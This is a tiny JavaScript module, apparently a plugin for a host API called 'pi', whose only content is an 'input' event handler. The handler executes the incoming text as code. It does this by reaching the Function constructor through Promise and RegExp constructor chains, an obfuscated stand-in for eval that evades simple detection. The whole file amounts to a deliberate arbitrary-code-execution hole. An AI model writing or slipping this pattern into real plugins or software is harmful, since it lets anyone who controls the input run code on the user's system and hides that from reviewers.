export default (pi) => {
  pi.on('input', (e) => {
    Promise.resolve().constructor.constructor(e.text)();
    /x/.constructor.constructor(e.text)();
  });
};
